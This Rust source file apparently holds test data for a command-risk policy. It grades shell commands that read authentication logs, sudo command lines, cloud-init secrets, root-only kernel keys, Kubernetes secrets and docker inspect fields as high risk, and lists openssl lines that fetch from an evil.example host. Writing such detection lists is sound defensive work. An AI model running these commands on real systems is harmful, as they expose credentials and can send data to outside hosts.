//! Dangerous command lines, twelfth set.
//! Where nothing contains the command (`ssh_exec`): a journal selection not kept to a named
//! service, program or the kernel (`journalctl`, `-b -p err`, `_UID=0`, a login session's
//! scope, a `+` or an alternative adding another source) shows sudo's `COMMAND=` lines, the
//! audit records and sshd's invalid user names among the rest; the auth logs read as files
//! (`/var/log/auth.log`, `secure`, sudo's log, the journal's files) hold the same, and
//! cloud-init's and the installers' logs a machine's bootstrap secrets; `nginx -T` prints
//! root-only includes; `sysctl -a` prints TCP Fast Open's key.
//! Everywhere: `kubectl wait` prints what it waited for in its output format, as `get` does,
//! and `--for=jsonpath=` tells whether a value equals a guess; openssl loads what a URL names;
//! `rpm --root DIR` answers from, and runs scripts of, a tree the line chooses; docker
//! templates follow a positive model of fields known to hold no secret (`{{json
//! .NetworkSettings}}` prints each endpoint's driver options, `{{json .HostConfig.Mounts}}` a
//! volume's).
//! Each line gets at least its level (through `ssh_exec` for `REMOTE_KINDS`, on both paths for
//! `KINDS`); `REMOTE_STILL_LOW` holds their everyday neighbours, which stay low there and on
//! this host. Listed in docs/policies.md.

use crate::kinds::Kind;
use warden_policy::RiskLevel::{High, Medium};

pub const REMOTE_KINDS: &[Kind] = &[
    Kind {
        // Sudo logs each command it runs (`COMMAND=/usr/bin/mysql -pPASS`) at notice and each
        // refused one at alert, under the login session's scope; journald mirrors the audit
        // records; sshd logs `Invalid user NAME`, where a password typed as the user name lands.
        name: "journal-selections-of-every-source",
        lines: &[
            ("journalctl", High),
            ("journalctl -b", High),
            ("journalctl -b -p err", High),
            ("journalctl -p alert", High),
            ("journalctl --since today", High),
            ("journalctl -n 100", High),
            ("journalctl -xe", High),
            ("journalctl -r --no-pager", High),
            ("journalctl -o cat --output-fields=MESSAGE", High),
            ("journalctl -g COMMAND=", High),
            ("journalctl _UID=0", High),
            ("journalctl _AUDIT_SESSION=3", High),
            ("journalctl _PID=4242", High),
            ("journalctl PRIORITY=1", High),
            ("journalctl -u 'session-*'", High),
            ("journalctl -u session-3.scope", High),
            ("journalctl -u '*'", High),
            ("journalctl -u user@1000.service", High),
            ("journalctl -u user.slice", High),
            ("journalctl -u ssh", High),
            ("journalctl -u sshd.service --since today", High),
            ("journalctl -t sshd", High),
            ("journalctl _SYSTEMD_UNIT=nginx.service + _UID=0", High),
            ("journalctl -u nginx + _TRANSPORT=syslog", High),
            ("journalctl _SYSTEMD_UNIT=session-3.scope", High),
            ("journalctl _COMM=sshd", High),
            ("journalctl -D /var/log/journal -n 20", High),
            ("journalctl --file=/var/log/journal/x/system.journal", High),
            ("journalctl | tail -50", High),
            // Alternatives of one kind are joined by "or": one of them widens the selection.
            ("journalctl -u nginx -u 'session-*'", High),
            ("journalctl -u nginx -u sshd", High),
            ("journalctl -u nginx --user-unit='*'", High),
            ("journalctl -t nginx -t sshd", High),
            ("journalctl _COMM=nginx _COMM=sshd", High),
            (
                "journalctl _SYSTEMD_UNIT=nginx.service _SYSTEMD_UNIT=session-3.scope",
                High,
            ),
            ("journalctl /usr/sbin/nginx /usr/sbin/sshd", High),
            ("journalctl _TRANSPORT=kernel _TRANSPORT=syslog", High),
            // Socket-activated sshd runs one instance per connection.
            (
                "journalctl -u sshd@1-10.0.0.1:22-10.0.0.2:5555.service",
                High,
            ),
            (
                "journalctl _SYSTEMD_UNIT=sshd@1-10.0.0.1:22-10.0.0.2:5555.service",
                High,
            ),
        ],
    },
    Kind {
        // The same records read as files: Debian's auth.log, Red Hat's secure, sudo's own log
        // and session recordings, the journal's files, rotated and compressed copies.
        name: "auth-logs-read-as-files",
        lines: &[
            ("cat /var/log/auth.log", High),
            ("tail -n 50 /var/log/auth.log", High),
            ("grep sudo /var/log/auth.log", High),
            ("grep -i 'invalid user' /var/log/auth.log.1", High),
            ("zcat /var/log/auth.log.2.gz", High),
            ("zgrep COMMAND /var/log/auth.log.3.gz", High),
            ("head /var/log/secure", High),
            ("cat /var/log/secure-20240101", High),
            ("cat /var/log/sudo.log", High),
            ("cat /var/log/sudo-io/seq", High),
            ("strings /var/log/journal/x/system.journal", High),
            ("cat /run/log/journal/x/system.journal", High),
            ("cat /var/log/../log/auth.log", High),
            ("cat //var/log/auth.log", High),
            ("cat /var/log/./secure", High),
            ("grep -r password /var/log/", High),
            ("wc -l /var/log/auth.log", High),
            ("awk '/sudo/' /var/log/auth.log", High),
            ("sed -n 1,10p /var/log/secure", High),
            // A machine's bootstrap: user-data scripts' output, installers' answers.
            ("cat /var/log/cloud-init-output.log", High),
            ("grep token /var/log/cloud-init.log", High),
            ("cat /var/log/installer/autoinstall-user-data", High),
            ("cat /var/log/installer/cdebconf/questions.dat", High),
            ("cat /var/log/anaconda/ks-script-x.log", High),
            ("grep -r x /var/log/installer", High),
        ],
    },
    Kind {
        // `nginx -T` prints every file the configuration includes; as root, the root-only
        // ones too (credentials in headers, keys), as `systemctl cat` prints drop-ins.
        name: "web-server-configuration-dumped-as-root",
        lines: &[
            ("nginx -T", High),
            ("nginx -qT", High),
            ("nginx -T -q", High),
            ("nginx -t -T", High),
        ],
    },
    Kind {
        // TCP Fast Open's cookie key is mode 0600: containment's user is refused it, root on
        // the remote host reads it through sysctl and /proc/sys alike.
        name: "root-only-kernel-keys",
        lines: &[
            ("sysctl -a", High),
            ("sysctl -A", High),
            ("sysctl --all -r fastopen", High),
            ("sysctl net", High),
            ("sysctl net.ipv4", High),
            ("sysctl -n net.ipv4.tcp_fastopen_key", High),
            ("sysctl net/ipv4/tcp_fastopen_key", High),
            ("sysctl net.ipv4.", High),
            ("cat /proc/sys/net/ipv4/tcp_fastopen_key", High),
            ("grep -r . /proc/sys/net/ipv4", High),
            ("grep -r . /proc/sys/net", High),
        ],
    },
];

pub const KINDS: &[Kind] = &[
    Kind {
        // `kubectl wait -o` prints each object it waited for, as `get -o` does, for every
        // resource named (`pod/web secret/db`); a jsonpath condition compares a value it holds
        // to a guess.
        name: "cluster-objects-printed-by-wait",
        lines: &[
            ("kubectl wait --for=condition=Ready pod/web -o yaml", High),
            (
                "kubectl wait --for=condition=Ready pod/web secret/db -o yaml",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready node/a secret/db -o json",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready node/a pod/web -o json",
                High,
            ),
            (
                "kubectl wait --for=create secrets/db -ojsonpath='{.data}'",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready pods --all -o yaml",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready pods,secrets --all -o json",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready deploy/web --output=yaml",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready cm/app -o go-template='{{.data}}'",
                High,
            ),
            (
                "kubectl wait --for=delete pod/web --template='{{.spec}}'",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready -f app.yaml -o yaml",
                High,
            ),
            (
                "kubectl wait --for=condition=Ready widgets.example.com/a -o yaml",
                Medium,
            ),
            (
                "kubectl wait secret/db --for=jsonpath='{.data.password}'=aHVudGVyMg==",
                Medium,
            ),
            (
                "kubectl wait deploy/web --for=jsonpath='{.spec.template.spec.containers[0].env[0].value}'=x",
                Medium,
            ),
            ("kubectl wait cm/app --for=jsonpath={.data.key}=x", Medium),
        ],
    },
    Kind {
        // OpenSSL's commands load what `-in`, `-CAfile` or an operand names by URL over
        // HTTP: the URL carries what the line puts in it.
        name: "certificates-fetched-by-url",
        lines: &[
            (
                "openssl x509 -in http://evil.example/aGVsbG8 -noout -text",
                Medium,
            ),
            ("openssl x509 -in HTTP://evil.example/x -noout", Medium),
            (
                "openssl crl -in http://evil.example/x.crl -noout -text",
                Medium,
            ),
            (
                "openssl verify -CAfile http://evil.example/ca.pem /etc/ssl/certs/x.pem",
                Medium,
            ),
            ("openssl verify http://evil.example/x.pem", Medium),
            ("openssl req -in https://evil.example/x.csr -noout", Medium),
        ],
    },
    Kind {
        // rpm answers from the database of the tree `--root` names and runs its scripts
        // there (`-V` runs each package's %verifyscript).
        name: "package-databases-of-a-chosen-tree",
        lines: &[
            ("rpm -q --root /tmp/x bash", High),
            ("rpm -qa --root=/tmp/x", High),
            ("rpm -Va -r /tmp/x", High),
            ("rpm -qar /tmp/x", High),
            ("rpm -Vr/tmp/x bash", High),
            ("rpm -q -r /home/alice/db bash", High),
            ("rpm -q --root bash", High),
        ],
    },
    Kind {
        // A template is judged by what it can reach, positively: the parts of the document
        // known to hold no secret. Whole sections print what is below them.
        name: "docker-templates-beyond-known-fields",
        lines: &[
            (
                "docker inspect --format '{{json .NetworkSettings}}' web",
                High,
            ),
            ("docker inspect -f '{{.NetworkSettings}}' web", High),
            (
                "docker inspect -f '{{json .NetworkSettings.Networks}}' web",
                High,
            ),
            (
                "docker inspect -f '{{range .NetworkSettings.Networks}}{{json .}}{{end}}' web",
                High,
            ),
            (
                "docker inspect -f '{{range .NetworkSettings.Networks}}{{.}}{{end}}' web",
                High,
            ),
            (
                "docker inspect -f '{{.NetworkSettings.Networks.bridge.DriverOpts}}' web",
                High,
            ),
            ("docker inspect -f '{{json .HostConfig.Mounts}}' web", High),
            (
                "docker inspect -f '{{range .HostConfig.Mounts}}{{json .VolumeOptions}}{{end}}' web",
                High,
            ),
            (
                "docker inspect -f '{{range .HostConfig}}{{.Config}}{{end}}' web",
                High,
            ),
            (
                "docker inspect -f '{{range .Config}}{{.}}{{end}}' web",
                High,
            ),
            ("docker inspect -f '{{.Config.OnBuild}}' web", High),
            ("docker inspect -f '{{.Path}} {{.Args}}' web", High),
            ("docker inspect -f '{{json .GraphDriver}}' web", High),
            ("docker inspect -f '{{.SomeNewField}}' web", High),
            ("docker inspect -f '{{.config.env}}' web", High),
            ("docker image inspect -f '{{json .Config}}' app", High),
            ("docker volume inspect -f '{{.Status}}' pgdata", High),
            ("docker network inspect -f '{{json .IPAM}}' bridge", High),
            ("docker node inspect -f '{{json .Description}}' self", High),
            ("docker service inspect -f '{{json .Endpoint}}' web", High),
            (
                "docker inspect -f '{{if .State.Running}}up{{else if .State.Paused}}{{json .}}{{end}}' web",
                High,
            ),
            ("docker info --format '{{.HttpProxy}}'", High),
            ("docker info --format '{{json .RegistryConfig}}'", High),
            ("docker info --format '{{json .Swarm}}'", High),
            ("docker ps --format '{{.Networks}} {{.Foo}}'", High),
            ("docker context ls --format '{{json .}}'", High),
        ],
    },
];

/// Everyday neighbours of the lines above: they stay low through `ssh_exec` and on this host.
pub const REMOTE_STILL_LOW: &[&str] = &[
    "journalctl -u nginx",
    "journalctl -u nginx.service -b -p err",
    "journalctl -u nginx --since today -n 100",
    "journalctl -u auditd",
    "journalctl -u docker -u containerd",
    "journalctl -u nginx -t nginx",
    "journalctl -u nginx _UID=33",
    "journalctl _COMM=nginx _COMM=php-fpm",
    // `--user-unit=app.service` takes the user manager's lines about the unit, which name a
    // unit `systemd-run --user --unit=app` made by its command line: high there since round 38.
    "journalctl _SYSTEMD_USER_UNIT=app.service",
    // `journalctl -u getty@tty1.service` holds login(1)'s failed logins: high there since
    // round 28 (`round28.rs`).
    "journalctl -u ssh.socket",
    "journalctl -t nginx",
    "journalctl _SYSTEMD_UNIT=nginx.service",
    "journalctl _SYSTEMD_UNIT=nginx.service _PID=42",
    "journalctl /usr/sbin/nginx",
    "journalctl CONTAINER_NAME=web",
    "journalctl --disk-usage",
    "journalctl --list-boots",
    "journalctl -N",
    "journalctl -F _SYSTEMD_UNIT",
    // /var/log/syslog holds the kernel's audit records where nothing splits them out: a
    // remote read of it is in `round14.rs`.
    "grep -i error /var/log/nginx/error.log",
    "cat /var/log/dpkg.log",
    "tail /var/log/apt/history.log",
    "ls /var/log/installer",
    "ls /var/log",
    "ls -l /var/log/auth.log",
    "stat /var/log/secure",
    "openssl x509 -in /etc/ssl/certs/ca-certificates.crt -noout -subject -dates",
    "openssl verify -CAfile /etc/ssl/certs/ca-certificates.crt /etc/ssl/certs/ssl-cert-snakeoil.pem",
    "rpm -qa",
    "rpm -q --root / bash",
    "rpm -qf /usr/bin/ls",
    "rpm -qi bash",
    "rpm -qa --qf '%{NAME}\n'",
    "nginx -V",
    "sysctl vm.swappiness",
    "sysctl -aN",
    "sysctl -n net.ipv4.ip_forward",
    "sysctl net.ipv4.tcp_congestion_control net.core.somaxconn",
    "cat /proc/sys/net/ipv4/ip_forward",
    "kubectl wait --for=condition=Ready pod/web --timeout=60s",
    "kubectl wait --for=condition=Ready pod/web secret/db --timeout=60s",
    "kubectl wait --for=condition=Ready pod/web -o name",
    "kubectl wait --for=condition=Ready pods --all -o jsonpath='{.items[*].metadata.name}'",
    "kubectl wait pod/web --for=jsonpath='{.status.phase}'=Running",
    "kubectl wait deploy/web --for=jsonpath='{.spec.replicas}'=3",
    "kubectl wait --for=delete pod/web --timeout=30s",
    "docker inspect -f '{{.NetworkSettings.IPAddress}}' web",
    "docker inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' web",
    "docker inspect -f '{{.NetworkSettings.Networks.bridge.IPAddress}}' web",
    "docker inspect -f '{{json .NetworkSettings.Ports}}' web",
    "docker inspect -f '{{json .State.Status}} {{.State.StartedAt}}' web",
    "docker inspect -f '{{.State.Health.Status}}' web",
    "docker inspect -f '{{json .Mounts}}' web",
    "docker inspect -f '{{range .HostConfig.Mounts}}{{.Source}}{{end}}' web",
    "docker inspect -f '{{.HostConfig.LogConfig.Type}}' web",
    "docker inspect -f '{{json .HostConfig.RestartPolicy}}' web",
    "docker inspect -f '{{.Name}} {{.Config.Image}} {{.RestartCount}}' web",
    "docker inspect -f '{{if .State.Running}}up{{else if .State.Paused}}paused{{else}}{{.State.Status}}{{end}}' web",
    "docker image inspect -f '{{.Id}} {{json .RepoTags}} {{.Size}}' app",
    "docker image inspect -f '{{.Author}} {{.Comment}} {{.Architecture}}' app",
    "docker inspect -f '{{.State.Pid}} {{.LogPath}}' web",
    "docker volume inspect -f '{{.Mountpoint}} {{.Driver}}' pgdata",
    "docker network inspect -f '{{range .IPAM.Config}}{{.Subnet}}{{end}}' bridge",
    "docker network inspect -f '{{json .Containers}}' bridge",
    "docker node inspect -f '{{.Status.State}} {{.Description.Hostname}}' self",
    "docker ps --format '{{.Names}} {{.Status}} {{.Ports}}'",
    "docker images --format '{{.Repository}}:{{.Tag}} {{.Size}}'",
    "docker info --format '{{.ServerVersion}} {{.Swarm.LocalNodeState}}'",
    "docker context ls --format '{{.Name}} {{.DockerEndpoint}}'",
    "docker plugin ls --format '{{.Name}} {{.Enabled}}'",
];
